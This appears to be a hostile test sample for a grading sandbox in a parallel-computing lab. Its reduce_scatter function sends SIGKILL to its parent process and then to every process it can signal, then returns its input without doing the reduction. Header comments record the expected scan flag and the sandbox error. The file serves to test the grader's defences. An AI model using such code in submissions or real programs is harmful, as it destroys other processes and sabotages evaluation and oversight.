# hostile: kills its parent (mpirun's proxy), then its new parent, the grader, and everything it may signal
# lab: 02
# scan: import of os
# sandbox: PermissionError
import os
import signal


def reduce_scatter(g, x, op="sum"):
    os.kill(os.getppid(), signal.SIGKILL)
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return x


def all_gather(g, piece, sizes=None):
    return piece
